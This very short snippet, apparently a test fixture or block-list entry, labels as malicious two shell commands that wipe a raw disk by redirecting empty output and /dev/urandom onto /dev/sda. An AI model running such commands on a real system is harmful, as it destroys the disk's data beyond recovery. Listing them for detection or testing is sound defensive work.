# Malicious: `> /dev/sda` and a urandom copy clobber the raw disk.
> /dev/sda
cat /dev/urandom > /dev/sda
